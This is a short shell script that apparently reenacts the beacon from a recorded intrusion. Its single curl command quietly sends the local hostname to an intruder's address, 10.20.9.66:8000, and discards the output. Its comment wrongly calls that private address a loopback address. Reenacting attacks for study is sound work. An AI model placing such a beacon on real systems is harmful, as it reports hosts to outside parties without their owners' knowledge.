#!/bin/sh
# Beacon of the recorded story: one request to the intruder's loopback address.
curl -s -m 5 "http://10.20.9.66:8000/b?h=$(hostname)" > /dev/null
